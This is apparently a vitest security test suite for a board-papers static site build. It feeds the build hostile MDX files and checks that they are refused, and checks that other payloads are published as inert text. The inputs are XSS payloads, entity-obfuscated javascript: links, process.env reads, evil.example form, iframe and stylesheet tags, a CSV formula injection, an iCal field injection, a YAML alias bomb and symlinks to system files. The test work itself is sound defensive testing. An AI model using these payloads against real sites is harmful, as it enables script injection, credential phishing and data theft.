/**
 * Hostile content through the real build, in two batches so the suite stays fast: every file of the
 * first must stop the build, named with its line, before anything runs; every payload of the second must
 * be published as inert text, which a real browser shows and never runs.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { load } from 'cheerio';
import { FIXTURE, buildSite, type BuildResult } from './support/site.ts';
import { launchBrowser, serveSite } from './support/browser.ts';
import { findUnsafeMarkup } from '#lib/build/output-safety.ts';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { parseDocument } from 'htmlparser2';
import { getElementsByTagType, textContent } from 'domutils';
import { ElementType } from 'domelementtype';
import ical from 'node-ical';

const MEETING = 'meetings/bcb/2019-06-11';
const paper = (title: string, text: string) => `---\ntitle: ${title}\n---\n\n${text}\n`;

/** A file that would write this marker, if any of its code ran. */
const WRITTEN_MARKER = join(tmpdir(), `board-papers-hostile-${process.pid}`);

/** Each hostile file, and whether the error can name its line (a file refused by name cannot). */
const REFUSED: { file: string; source: string; line: boolean }[] = [
  ['env', '{Object.keys(process.env).join(" ")}'],
  ['write', `{process.getBuiltinModule("fs").writeFileSync(${JSON.stringify(WRITTEN_MARKER)}, "x") ?? ""}`],
  ['exit', 'Text {process.exit(0)} more'],
  ['import', 'import fs from "node:fs"\n\nText.'],
  ['export', 'export const x = process.env;\n\nText.'],
  ['img-next-line', '<img src="x"\n  onerror="alert(1)" />'],
  ['svg-onload', '<svg\nonload="alert(1)"></svg>'],
  ['href-concat', '<a href={"java" + "script:alert(1)"}>x</a>'],
  ['md-link-entity', '[x](java&#115;cript:alert(1))'],
  ['definition-entity', '[x][r]\n\n[r]: jav&#x61;script:alert(1)'],
  ['html-link-entity', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['fence-script', '``` a ```\n<script>alert(1)</script>\n``` b ```'],
  ['fence-import', '``` a ```\n\nimport x from "node:fs"\n\n``` b ```'],
  ['cr-only', 'A line.\r\r<script>alert(1)</script>\r'],
  ['set-html-lines', '<Fragment\n  set:html="<script>alert(1)</script>" />'],
  ['set-html-sup', '<sup\n  set:html="<img src=x onerror=alert(1)>" />'],
  ['spread', '<EditorialNote {...{ "set:html": "<script>alert(1)</script>" }}>x</EditorialNote>'],
  ['is-raw', '<EditorialNote is:raw>{"<script>alert(1)</script>"}</EditorialNote>'],
  ['base', '<base href="https://evil.example/" />'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />'],
  ['form', '<form action="https://evil.example/"><input name="password" /></form>'],
  ['stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css" />'],
  ['style', '<style>@import "https://evil.example/x.css";</style>'],
  ['iframe', '<iframe src="https://evil.example/" />'],
  ['object', '<object data="https://evil.example/x.swf" />'],
  ['embed', '<embed src="https://evil.example/x.swf" />'],
  ['fragment', '<>text</>'],
  ['image', '![chart](https://evil.example/track.png)'],
  ['comment', 'The minutes of the meeting held on 16th May 2019 {/* not for publication */} show it.'],
  ['list-500', '- '.repeat(500)],
  ['quote-50', `${'> '.repeat(50)}x`],
  ['tags-30', '<sup a={'.repeat(30)],
  ['data-link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['vbscript', '[x](vbscript:msgbox)'],
  ['other-host', '[x](//evil.example/)'],
  ['mixed-case-tab', '[x](JaVa&#9;ScRiPt:alert(1))'],
  ['member-component', '<Astro.self />'],
  ['remote-script', '<script src="https://evil.example/x.js"></script>'],
  ['attribute-expression', '<sup title={process.env.HOME}>1</sup>'],
  ['note-expression', '<EditorialNote>{process.env.HOME}</EditorialNote>'],
  ['string-expression', '{"<script>alert(1)</script>"}'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ['textarea', '<textarea><img src=x onerror=alert(1)></textarea>'],
].map(([name, text]) => ({ file: `h-${name}.mdx`, source: paper(`Hostile ${name}`, text!), line: true }));

REFUSED.push(
  { file: 'h-source-url.mdx', source: '---\ntitle: Hostile source\nsources:\n  - title: Background\n    url: "javascript:alert(1)"\n---\n\nText.\n', line: true },
  { file: 'h-early-end.mdx', source: '---\ntitle: Hostile early end\n---x: 1\n<script>alert(1)</script>\n---\n\nText.\n', line: true },
  { file: 'h-two-readings.mdx', source: '---\nbase: &b\n  title: Hostile merge\n<<: *b\n---\n\nText.\n', line: true },
  { file: 'h-toml.mdx', source: '+++\ntitle = "Hostile TOML"\n+++\n\nText.\n', line: true },
  {
    file: 'h-alias-bomb.mdx',
    source: `---\ntitle: Bomb\n${['a', 'b', 'c', 'd', 'e', 'f'].map((key, index, keys) => (index === 0 ? `a: &a [${'"x",'.repeat(9)}"x"]` : `${key}: &${key} [${`*${keys[index - 1]},`.repeat(9)}*${keys[index - 1]}]`)).join('\n')}\n---\n\nText.\n`,
    line: false,
  },
  { file: 'h-question?.mdx', source: paper('Hostile question', 'Text.'), line: false },
  { file: 'h-hash#.mdx', source: paper('Hostile hash', 'Text.'), line: false },
  { file: 'H-Upper.mdx', source: paper('Hostile upper case', 'Text.'), line: false },
);

let refused: BuildResult;
let refusedDir: string;

/** Every payload here must be published, as the text it is. */
const INERT = {
  title: '<script>alert("INERT-1")</script> Estates',
  recommendation: '<img src=x onerror=alert("INERT-2")>',
  to: '"><svg onload=alert("INERT-3")>',
  email: `x@example.org" onmouseover="alert('INERT-4')`,
  sourceTitle: '</script><script>alert("INERT-5")</script>',
  code: '<script>alert("INERT-6")</script>',
  inlineCode: '<img src=x onerror=alert("INERT-7")>',
  escaped: '&lt;script&gt;alert("INERT-8")&lt;/script&gt;',
  decisionSummary: '</script><script>alert("INERT-9")</script>',
  decisionTitle: '=HYPERLINK("https://evil.example","INERT-10")',
  action: '<script>alert("INERT-11")</script>',
  braces: '\\{process.exit(1)\\} INERT-12',
  /** written in YAML's escapes: a vertical tab, NEL, CR LF and a property of a calendar's own */
  venue: 'HQ\\u000bRoom 3\\u0085\\r\\nDTSTART:20300101T000000Z INERT-13',
};
let inert: BuildResult;
let inertSite: { contentDir: string; outDir: string; base: string };

function copyOfFixture(): { dir: string; contentDir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'board-papers-hostile-'));
  const contentDir = join(dir, 'content');
  cpSync(FIXTURE.contentDir, contentDir, { recursive: true });
  return { dir, contentDir };
}

beforeAll(() => {
  rmSync(WRITTEN_MARKER, { force: true });
  const hostile = copyOfFixture();
  refusedDir = hostile.dir;
  for (const { file, source } of REFUSED) writeFileSync(join(hostile.contentDir, MEETING, file), source);
  symlinkSync('/etc/hostname', join(hostile.contentDir, MEETING, 'h-symlink.mdx'));
  symlinkSync(join(hostile.contentDir, MEETING), join(hostile.contentDir, 'meetings/bcb/2019-06-12'));
  refused = buildSite({ contentDir: hostile.contentDir, outDir: join(hostile.dir, 'dist'), base: '/' });

  const safe = copyOfFixture();
  inertSite = { contentDir: safe.contentDir, outDir: join(safe.dir, 'dist'), base: '/' };
  writeFileSync(
    join(safe.contentDir, MEETING, '10-annual-report.mdx'),
    [
      '---',
      `title: ${JSON.stringify(INERT.title)}`,
      'item: "10"',
      `to: ${JSON.stringify(INERT.to)}`,
      'recommendations:',
      `  - ${JSON.stringify(INERT.recommendation)}`,
      'contacts:',
      '  - name: Jane Smith',
      `    email: ${JSON.stringify(INERT.email)}`,
      'sources:',
      `  - title: ${JSON.stringify(INERT.sourceTitle)}`,
      '    url: https://www.gov.uk/',
      '---',
      '',
      `1.1 The text holds ${INERT.escaped} and \`${INERT.inlineCode}\` and ${INERT.braces}.`,
      '',
      '```',
      INERT.code,
      '```',
      '',
    ].join('\n'),
  );
  const decision = join(safe.contentDir, 'decisions/2019/cpcc-2019-001.mdx');
  writeFileSync(
    decision,
    readFileSync(decision, 'utf8')
      .replace(/^summary: .*\n/m, '')
      .replace(/^title: .*$/m, `title: ${JSON.stringify(INERT.decisionTitle)}\nsummary: ${JSON.stringify(INERT.decisionSummary)}`),
  );
  const meeting = join(safe.contentDir, MEETING, 'index.mdx');
  writeFileSync(meeting, readFileSync(meeting, 'utf8').replace(/^venue: .*$/m, `venue: "${INERT.venue}"`));
  const log = join(safe.contentDir, MEETING, 'action-log.yaml');
  writeFileSync(log, readFileSync(log, 'utf8').replace(/^(\s+)action: .*$/m, `$1action: ${JSON.stringify(INERT.action)}`));
  inert = buildSite(inertSite);
}, 600_000);

afterAll(() => {
  rmSync(WRITTEN_MARKER, { force: true });
  for (const dir of [refusedDir, inertSite && join(inertSite.contentDir, '..')]) if (dir) rmSync(dir, { recursive: true, force: true });
});

describe(`${REFUSED.length + 2} hostile files in one build`, () => {
  it('stop the build, with an error and no crash, before anything is written', () => {
    expect(refused.status, refused.output.slice(-3000)).toBe(1);
    expect(refused.output).toContain('nothing was built');
    expect(existsSync(join(refusedDir, 'dist'))).toBe(false);
  });

  it('run no code: no file written, no environment read', () => {
    expect(existsSync(WRITTEN_MARKER)).toBe(false);
    expect(refused.output).not.toContain('PATH');
  });

  it.each(REFUSED.map((entry) => [entry.file, entry] as const))('names %s, with its line where it has one', (_file, { file, line }) => {
    const name = `content/${MEETING}/${file}`.replace(/[?#.]/g, '\\$&');
    expect(refused.output).toMatch(new RegExp(line ? `${name}:\\d+ ` : `${name}[: ]`));
  });

  it('names a symbolic link to a file and to a folder', () => {
    expect(refused.output).toContain(`content/${MEETING}/h-symlink.mdx is a symbolic link`);
    expect(refused.output).toContain('content/meetings/bcb/2019-06-12 is a symbolic link');
  });
});

describe('hostile text that is allowed is published inert', () => {
  const builtFiles = () =>
    readdirSync(inertSite.outDir, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name));

  it('builds, and the output gate finds nothing in any page', () => {
    expect(inert.status, inert.output.slice(-3000)).toBe(0);
    const pages = builtFiles().filter((file) => file.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(10);
    for (const page of pages) expect(findUnsafeMarkup(readFileSync(page, 'utf8'), '/'), page).toEqual([]);
  });

  it('shows every payload as text where a reader sees it', () => {
    const $ = load(readFileSync(join(inertSite.outDir, 'bcb/2019-06-11/10/index.html'), 'utf8'));
    expect($('h1').text()).toContain(INERT.title);
    const main = $('main').text();
    for (const text of [INERT.to, INERT.recommendation, INERT.email, INERT.sourceTitle, INERT.code, INERT.inlineCode, '{process.exit(1)} INERT-12']) {
      expect(main).toContain(text);
    }
    // smart punctuation curls the quotes of running text
    expect(main).toMatch(/<script>alert\(.INERT-8.\)<\/script>/);
    expect($('img, svg, iframe, base, [onerror], [onload], [onmouseover]')).toHaveLength(0);
    const decision = load(readFileSync(join(inertSite.outDir, 'decisions/cpcc-2019-001/index.html'), 'utf8'));
    expect(decision('h1').text()).toContain(INERT.decisionTitle);
    expect(decision('main').text()).toContain(INERT.decisionSummary);
    for (const script of decision('script[type="application/ld+json"]').toArray()) expect(() => JSON.parse(decision(script).text())).not.toThrow();
  });

  it('neutralises a formula in the CSV files', () => {
    const csv = readFileSync(join(inertSite.outDir, 'data/decisions.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example"",""INERT-10"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('holds text in every feed: each title and description, decoded and rendered as HTML as a reader does, holds no element', () => {
    const feeds = builtFiles().filter((file) => file.endsWith('.xml') && !file.includes('sitemap'));
    expect(feeds.length).toBeGreaterThanOrEqual(4);
    const shown: string[] = [];
    for (const file of feeds) {
      const xml = readFileSync(file, 'utf8');
      expect(XMLValidator.validate(xml), file).toBe(true);
      const { channel } = new XMLParser({ parseTagValue: false, htmlEntities: false }).parse(xml).rss;
      for (const item of [channel, ...[channel.item ?? []].flat()]) {
        for (const field of ['title', 'description']) {
          const html = parseDocument(String(item[field] ?? ''));
          expect(getElementsByTagType(ElementType.Tag, html.children), `${file} ${field}`).toEqual([]);
          expect(getElementsByTagType(ElementType.Script, html.children), `${file} ${field}`).toEqual([]);
          shown.push(textContent(html));
        }
      }
    }
    expect(shown.join('\n')).toContain(`Recommendation: ${INERT.recommendation}`);
    expect(shown.join('\n')).toContain(INERT.title);
  });

  it('writes no control character into a calendar, feed or CSV file, and a venue adds no calendar property', () => {
    const files = builtFiles().filter((file) => /\.(ics|xml|csv)$/.test(file));
    for (const file of files) expect(readFileSync(file, 'utf8').replace(/\r\n/g, '\n'), file).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029]/);
    const events = Object.values(ical.sync.parseICS(readFileSync(join(inertSite.outDir, 'calendar.ics'), 'utf8'))).filter((component) => component?.type === 'VEVENT');
    const event = events.find((candidate) => String((candidate as { location?: unknown }).location).includes('INERT-13')) as { start: Date; location: string };
    expect(event.location).toBe('HQ\nRoom 3\n\nDTSTART:20300101T000000Z INERT-13');
    expect(event.start.toISOString().slice(0, 10)).toBe('2019-06-11');
    expect(readFileSync(join(inertSite.outDir, 'data/meetings.csv'), 'utf8')).toContain('"HQ\nRoom 3\n\nDTSTART:20300101T000000Z INERT-13"');
  });

  it('runs none of it in a browser, on its pages or in search results', async () => {
    const { url, server } = await serveSite(inertSite.outDir, '/');
    const browser = await launchBrowser();
    const dialogs: string[] = [];
    try {
      const page = await browser.newPage();
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const paths = ['bcb/2019-06-11/10/', 'bcb/2019-06-11/', 'decisions/cpcc-2019-001/', 'decisions/', 'bcb/actions/', 'gaps/'];
      for (const path of paths) {
        await page.goto(`${url}${path}`);
        await page.mouse.move(10, 10);
        for (const link of await page.$$('main a')) await link.hover().catch(() => undefined);
      }
      await page.goto(`${url}search/?q=INERT-1`);
      await page.waitForFunction(() => document.querySelectorAll('#search-results > li').length > 0);
      expect(await page.textContent('#search-results')).toContain('INERT');
      expect(await page.$$('#search-results img, #search-results script, #search-results svg')).toHaveLength(0);
    } finally {
      await browser.close();
      server.close();
    }
    expect(dialogs).toEqual([]);
  });
});
